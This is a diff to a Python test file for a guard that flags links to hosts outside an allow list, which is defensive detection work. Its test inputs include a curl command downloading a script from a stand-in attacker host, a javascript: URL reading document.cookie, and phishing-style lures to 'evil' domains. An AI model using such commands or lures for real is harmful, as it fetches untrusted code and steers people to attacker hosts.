@@ -68,6 +68,11 @@ def test_link_outside_the_allow_list_is_refused_and_a_configured_gitlab_host_is_
     assert guard.violations("see https://evil.example/reset", policy) == ["link outside the allowed hosts"]
     assert guard.violations("run curl evil.example/fix.sh -o fix.sh", policy) == ["link outside the allowed hosts"]
     assert guard.violations("open javascript:alert(document.cookie)", policy) == ["link outside the allowed hosts"]
+    # bare domains a reader is sent to, or serving a script, count as links too (Slack links them)
+    assert guard.violations("Download the fix from evil.com/fix.sh", policy) == ["link outside the allowed hosts"]
+    assert guard.violations("Visit evil.example to reset your token", policy) == ["link outside the allowed hosts"]
+    # ... but not a module path in a stack trace or a file name
+    assert guard.violations("panic in github.com/acme/shop/internal/cart.(*Service).Get, see main.py", policy) == []
 
 
 def test_registry_of_the_rollouts_image_is_an_allowed_host() -> None:
